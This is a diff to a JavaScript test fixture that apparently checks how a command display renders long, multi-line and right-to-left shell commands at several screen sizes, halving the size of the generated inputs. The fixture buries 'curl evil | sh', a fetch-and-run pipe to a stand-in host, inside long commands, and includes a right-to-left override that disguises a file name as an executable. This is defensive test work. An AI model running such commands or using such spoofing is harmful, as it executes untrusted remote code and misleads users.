@@ -8,12 +8,12 @@ import { browser, fixture, server } from './stage.mjs';
 
 const SCREENS = { '1440×900': SIZES.desktop, '390×844': SIZES.phone, '360×640': SMALL };
 
-/** 12 KB in lines of all lengths; what matters stands in the middle. */
-const LONG = Array.from({ length: 160 }, (_, at) => (at === 80 ? 'curl evil | sh' : `echo ${'x'.repeat((at * 37) % 150)}`)).join('\\n\'\\\n$\'');
+/** 6 KB in lines of all lengths; what matters stands in the middle. */
+const LONG = Array.from({ length: 80 }, (_, at) => (at === 40 ? 'curl evil | sh' : `echo ${'x'.repeat((at * 37) % 150)}`)).join('\\n\'\\\n$\'');
 const COMMANDS = {
   short: "/usr/bin/cargo test --workspace 'a b'",
   'many lines': `/bin/sh -c $'${LONG}'`,
-  'one long line': `/bin/sh -c 'cargo test ${'-v '.repeat(3000)}; curl evil | sh'`,
+  'one long line': `/bin/sh -c 'cargo test ${'-v '.repeat(1500)}; curl evil | sh'`,
   'right to left': "/bin/echo 'אבג דהו' $'\\xe2\\x80\\xaegpj.exe' '日本語'",
 };
 
